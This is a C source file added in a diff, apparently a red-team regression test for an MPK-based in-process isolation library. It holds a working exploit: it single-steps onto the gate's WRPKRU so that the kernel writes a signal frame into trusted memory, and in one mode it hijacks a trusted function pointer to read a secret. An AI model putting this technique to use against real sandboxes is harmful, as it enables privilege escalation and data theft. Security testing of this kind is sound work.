@@ -1,0 +1,383 @@
+/* SPDX-License-Identifier: MIT */
+/* rt_gatewin.c: red team 49 -- a signal frame written INTO trusted memory
+ * on Linux 6.1 through the window after a gate's WRPKRU (written by the red
+ * team against the previous liberim, where the attack worked on 6.1; kept
+ * as its regression test: runtime/erim_sigstack.c now gives every thread a
+ * signal stack of liberim's on 6.1 too, in untrusted memory, and every
+ * handler SA_ONSTACK).
+ *
+ * security.md ("What each back end guarantees", first row and the row of
+ * red team 15) says a signal frame written at an attacker-set %rsp is stopped
+ * on 6.1 because "the hardware refuses the frame": the kernel writes the frame
+ * with the interrupted PKRU, which for untrusted code denies the key.  But
+ * untrusted code can be interrupted with the trusted PKRU in force and an
+ * %rsp of its choice: it jumps, with RFLAGS.TF set, onto a gate's WRPKRU site
+ * (liberim's .Lsite_gate_enter_mpk, found by scanning erim_gate_call's code),
+ * with RSP = an address inside trusted globals, every general
+ * register = the attacker's value, EAX = 0, ECX = EDX = 0.  The WRPKRU runs
+ * (PKRU := 0), the single-step trap fires before the check after it, and the
+ * kernel (6.1) writes the SIGTRAP frame -- every register, the attacker's --
+ * below that %rsp, with PKRU 0 in force: into the trusted globals.  The
+ * process dies afterwards (liberim's trampoline faults on the trusted stack
+ * pointer), but a second thread that keeps asking the trusted side through a
+ * gate sees the trusted value changed first (as red team 15's sigframe_write).
+ *
+ *   rt_gatewin mpk          ATTACK: TF + jump onto the gate's WRPKRU (expected
+ *                             to WORK on 6.1, to be stopped on 6.12 by
+ *                             liberim's signal stacks)
+ *   rt_gatewin mpk nowrpkru CONTROL: the same TF + jump, same %rsp, same
+ *                             registers, onto a NOP of the program instead of
+ *                             the WRPKRU: the hardware refuses the frame
+ *   rt_gatewin mpk exec     ATTACK, exec form: the trusted value overwritten
+ *                             is a trusted function pointer that gw_hash calls;
+ *                             the attacker's function then runs with the
+ *                             trusted PKRU and reads the trusted secret
+ *   rt_gatewin mpk exec nowrpkru  its CONTROL
+ *   rt_gatewin mpk direct   control of the key: a plain untrusted load of
+ *                             the balance is stopped
+ *   rt_gatewin none nowrpkru control   CONTROL of the mechanism: without
+ *                             keys the frame lands on the target (exit 0
+ *                             when the write WORKED, 1 when it did not)
+ * Exit 0 when blocked (with "control": when it worked), 1 otherwise, 2 when
+ * the program could not set itself up.
+ * Prints "ATTACK WORKED" with the bytes, or "BLOCKED". */
+#include <cpuid.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/utsname.h>
+#include <sys/wait.h>
+#include <ucontext.h>
+#include <unistd.h>
+
+#include "erim.h"
+#include "gw_erim.h"
+#include "gw_trusted.h"
+
+#define INIT_BALANCE 1000u
+#define ATTACK_VALUE 0x4141414141414141ull
+#define SECRET 0x5345435245542d31ull   /* "1-TERCES" */
+#define ATTEMPTS 10
+
+/* ---- trusted side ---------------------------------------------------------- */
+
+static ERIM_TRUSTED struct {
+	uint64_t lo[128];
+	volatile uint64_t balance;
+	uint64_t hi[895];
+} gw_t = { .balance = INIT_BALANCE };
+
+static uint64_t mix(uint64_t x)
+{
+	x ^= x >> 33;
+	x *= 0xff51afd7ed558ccdull;
+	return x ^ (x >> 33);
+}
+
+static ERIM_TRUSTED struct {
+	uint64_t secret;
+	uint64_t lo[127];
+	uint64_t (*volatile impl)(uint64_t);
+	uint64_t hi[895];
+} ge_t = { .secret = SECRET, .impl = mix };
+
+uint64_t gw_get_impl(void)
+{
+	return gw_t.balance;
+}
+
+uint64_t gw_hash_impl(uint64_t x)
+{
+	return ge_t.impl(x);
+}
+
+/* ---- untrusted side -------------------------------------------------------- */
+
+struct shared {
+	volatile uint64_t seen, iters, leak, leak_pkru;
+	volatile int ready, stop, fired, survived;
+	volatile uint64_t target, rsp, site;
+};
+static struct shared *sh;
+static int use_exec, use_nowrpkru, use_direct, use_control;
+
+static int ospke;
+
+static uint64_t evil(uint64_t x)
+{
+	uint32_t eax = 0xffffffffu, edx;
+
+	if (ospke)
+		__asm__ volatile("rdpkru" : "=a"(eax), "=d"(edx) : "c"(0));
+	sh->leak_pkru = eax;
+	sh->leak = ge_t.secret;       /* a trusted global, read by untrusted code */
+	sh->seen = 1;
+	return x;
+}
+
+/* gw_fire(rip, rsp, v, eax): every general register := v (RSI := RSP, R11 :=
+ * RIP), EAX := eax, ECX = EDX = 0; then RFLAGS.TF := 1 (POPF), RSP := rsp and
+ * a jump to RIP.  With TF set every instruction traps: the traps after the
+ * MOV to RSP and after the JMP go to the program's SIGTRAP handler on its own
+ * (untrusted) sigaltstack, which returns unchanged; at the second it takes
+ * SA_ONSTACK away, so the trap after the instruction at RIP -- the gate's
+ * WRPKRU -- has its frame written below RSP.  (On real hardware one IRETQ
+ * loads RIP, RSP and TF at once; QEMU's TCG performs IRETQ's stack reads from
+ * user mode as supervisor accesses and panics the guest kernel under SMAP,
+ * hence the two harmless traps.)  gw_resume: where a handler that returns
+ * sends the thread back (none back end). */
+uint64_t gw_saved_rsp;
+void gw_fire(uint64_t rip, uint64_t rsp, uint64_t v, uint64_t eax);
+void gw_resume(void);
+void gw_land(void);
+__asm__(".text\n\t.globl gw_fire\n\t.type gw_fire,@function\ngw_fire:\n\t"
+        "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
+        "mov %rsp, gw_saved_rsp(%rip)\n\t"
+        "mov %rdi, %r11\n\tmov %rcx, %rax\n\t"
+        "mov %rdx, %rbx\n\tmov %rdx, %rbp\n\tmov %rdx, %rdi\n\t"
+        "mov %rdx, %r8\n\tmov %rdx, %r9\n\tmov %rdx, %r10\n\t"
+        "mov %rdx, %r12\n\tmov %rdx, %r13\n\tmov %rdx, %r14\n\tmov %rdx, %r15\n\t"
+        "xorl %ecx, %ecx\n\txorl %edx, %edx\n\t"
+        "pushfq\n\torq $0x100, (%rsp)\n\tpopfq\n\t"
+        "mov %rsi, %rsp\n\t"
+        "jmp *%r11\n\t.size gw_fire, .-gw_fire\n"
+        ".globl gw_land\n\t.type gw_land,@function\ngw_land:\n\tnop\n\tnop\n\tud2\n"
+        ".globl gw_resume\n\t.type gw_resume,@function\ngw_resume:\n\t"
+        "mov gw_saved_rsp(%rip), %rsp\n\t"
+        "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");
+
+static volatile uint64_t fire_rip;
+
+/* the last handler: back to gw_fire's caller, TF off (runs only where the
+ * frame could be written: the none back end) */
+static void on_trap(int sig, siginfo_t *si, void *ucv)
+{
+	ucontext_t *uc = ucv;
+
+	(void)sig;
+	(void)si;
+	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)gw_resume;
+	uc->uc_mcontext.gregs[REG_EFL] &= ~(greg_t)0x100;
+}
+
+/* the first handler, on the sigaltstack: returns unchanged; when the thread
+ * is about to run the instruction at RIP, the next trap goes to on_trap
+ * without SA_ONSTACK */
+static void on_step(int sig, siginfo_t *si, void *ucv)
+{
+	ucontext_t *uc = ucv;
+
+	(void)sig;
+	(void)si;
+	if ((uint64_t)uc->uc_mcontext.gregs[REG_RIP] == fire_rip) {
+		struct sigaction sa;
+
+		memset(&sa, 0, sizeof sa);
+		sa.sa_sigaction = on_trap;
+		sa.sa_flags = SA_SIGINFO;
+		sigaction(SIGTRAP, &sa, NULL);
+	}
+}
+
+static void *reader(void *arg)
+{
+	(void)arg;
+	while (!sh->stop) {
+		if (use_exec) {
+			(void)gw_hash(sh->iters);
+		} else {
+			uint64_t v = gw_get();
+
+			if (v != INIT_BALANCE && !sh->seen)
+				sh->seen = v;
+		}
+		sh->iters++;
+		if (sh->iters > 100)
+			sh->ready = 1;
+	}
+	return NULL;
+}
+
+/* the gate's first WRPKRU: erim_gate_call dispatches to erim__gate_mpk, whose
+ * entry (TLS hint, then ENTER_T) holds the first 0f 01 ef after it */
+static uintptr_t find_site(void)
+{
+	const unsigned char *p = (const unsigned char *)(uintptr_t)erim_gate_call;
+
+	for (int i = 0; i < 4096; i++)
+		if (p[i] == 0x0f && p[i + 1] == 0x01 && p[i + 2] == 0xef)
+			return (uintptr_t)(p + i);
+	return 0;
+}
+
+static int child(void)
+{
+	pthread_t t;
+	unsigned a, b, c, d;
+	uint64_t target, fp, rsp, xsize, value, rip;
+
+	if (erim_init(NULL) != 0) {
+		fprintf(stderr, "erim_init failed: %s\n", erim_strerror());
+		return 2;
+	}
+	printf("rt_gatewin: pkey %d, balance through the gate: %llu\n", erim_pkey(),
+	       (unsigned long long)gw_get());
+	fflush(stdout);
+	if (pthread_create(&t, NULL, reader, NULL) != 0)
+		return 2;
+	while (!sh->ready)
+		;
+	if (!__get_cpuid_count(0xd, 0, &a, &b, &c, &d) || b == 0)
+		return 2;
+	xsize = b;
+	ospke = __get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & (1u << 4));
+	if (use_exec) {
+		target = (uint64_t)(uintptr_t)&ge_t.impl;
+		value = (uint64_t)(uintptr_t)evil;
+	} else {
+		target = (uint64_t)(uintptr_t)&gw_t.balance;
+		value = ATTACK_VALUE;
+	}
+	/* kernel's get_sigframe: below the 128-byte red zone the XSAVE image
+	 * (xsize + 4, 64-aligned), below it the 440-byte rt_sigframe (16-aligned
+	 * minus 8), r8..rbx at 48..136 from its start: put the target there */
+	fp = (target + 288 + 64) & ~63ull;
+	rsp = fp + 128 + xsize + 4;
+	rip = use_nowrpkru ? (uint64_t)(uintptr_t)gw_land : (uint64_t)find_site();
+	sh->target = target;
+	sh->rsp = rsp;
+	sh->site = rip;
+	if (!rip)
+		return 2;
+	if (use_direct) {
+		sh->seen = *(volatile uint64_t *)&gw_t.balance;
+		sh->survived = 1;
+		sh->stop = 1;
+		pthread_join(t, NULL);
+		return 0;
+	}
+	{
+		static char alt[65536] __attribute__((aligned(64)));
+		stack_t ss = { .ss_sp = alt, .ss_size = sizeof alt, .ss_flags = 0 };
+		struct sigaction sa;
+
+		if (sigaltstack(&ss, NULL) != 0)
+			return 2;
+		memset(&sa, 0, sizeof sa);
+		sa.sa_sigaction = on_step;
+		sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
+		sigaction(SIGTRAP, &sa, NULL);
+	}
+	fire_rip = rip;
+	sh->fired = 1;
+	gw_fire(rip, rsp, value, 0);
+	sh->survived = 1;
+	for (int i = 0; i < 2000000 && !sh->seen; i++)
+		__asm__ volatile("pause");
+	sh->stop = 1;
+	pthread_join(t, NULL);
+	return 0;
+}
+
+static char errlog[65536];
+static size_t errlen;
+
+int main(int argc, char **argv)
+{
+	struct sigaction sa;
+	struct utsname u;
+	pid_t pid;
+	int st = 0, worked, pfd[2];
+
+	if (argc < 2) {
+		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control]\n", argv[0]);
+		return 2;
+	}
+	setenv("ERIM_BACKEND", argv[1], 1);
+	for (int i = 2; i < argc; i++) {
+		if (!strcmp(argv[i], "exec"))
+			use_exec = 1;
+		else if (!strcmp(argv[i], "nowrpkru"))
+			use_nowrpkru = 1;
+		else if (!strcmp(argv[i], "direct"))
+			use_direct = 1;
+		else if (!strcmp(argv[i], "control"))
+			use_control = 1;
+		else
+			return 2;
+	}
+	uname(&u);
+	printf("rt_gatewin: kernel %s, back end %s, uid %d, %s%s%s\n", u.release, argv[1],
+	       (int)getuid(), use_exec ? "exec" : "write", use_nowrpkru ? ", CONTROL (no WRPKRU)" : "",
+	       use_direct ? ", direct load" : "");
+	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (sh == MAP_FAILED)
+		return 2;
+	(void)sa;
+	for (int attempt = 1; attempt <= ATTEMPTS; attempt++) {
+		memset((void *)sh, 0, sizeof *sh);
+		errlen = 0;
+		if (pipe(pfd) != 0)
+			return 2;
+		fflush(stdout);
+		pid = fork();
+		if (pid < 0)
+			return 2;
+		if (pid == 0) {
+			close(pfd[0]);
+			dup2(pfd[1], 2);
+			_exit(child());
+		}
+		close(pfd[1]);
+		for (;;) {
+			ssize_t n = read(pfd[0], errlog + errlen, sizeof errlog - 1 - errlen);
+
+			if (n <= 0)
+				break;
+			errlen += (size_t)n;
+		}
+		errlog[errlen] = 0;
+		close(pfd[0]);
+		waitpid(pid, &st, 0);
+		printf("rt_gatewin: attempt %d: child %s %d; reader %llu gate calls; site %#llx "
+		       "target %#llx rsp %#llx; survived %s; seen %#llx\n", attempt,
+		       WIFSIGNALED(st) ? "killed by signal" : "exited",
+		       WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st),
+		       (unsigned long long)sh->iters, (unsigned long long)sh->site,
+		       (unsigned long long)sh->target, (unsigned long long)sh->rsp,
+		       sh->survived ? "yes" : "no", (unsigned long long)sh->seen);
+		if (errlen)
+			printf("rt_gatewin: child's stderr: %s", errlog);
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 2) {
+			printf("rt_gatewin: the child could not set itself up\n");
+			return 2;
+		}
+		if (sh->seen || use_direct)
+			break;
+	}
+	if (use_direct) {
+		printf("rt_gatewin: direct load %s (%#llx)\n",
+		       sh->survived ? "READ the balance" : "BLOCKED", (unsigned long long)sh->seen);
+		return sh->survived ? 1 : 0;
+	}
+	if (use_exec)
+		worked = sh->leak == SECRET;
+	else
+		worked = sh->seen == ATTACK_VALUE;
+	if (worked && use_exec)
+		printf("rt_gatewin: ATTACK WORKED: the attacker's function ran with PKRU %#llx and "
+		       "read the trusted secret %#llx\n", (unsigned long long)sh->leak_pkru,
+		       (unsigned long long)sh->leak);
+	else if (worked)
+		printf("rt_gatewin: ATTACK WORKED: the trusted side returned %#llx (trusted memory "
+		       "written)\n", (unsigned long long)sh->seen);
+	else
+		printf("rt_gatewin: BLOCKED (seen %#llx)\n", (unsigned long long)sh->seen);
+	if (use_control)
+		return worked ? 0 : 1;
+	return worked ? 1 : 0;
+}
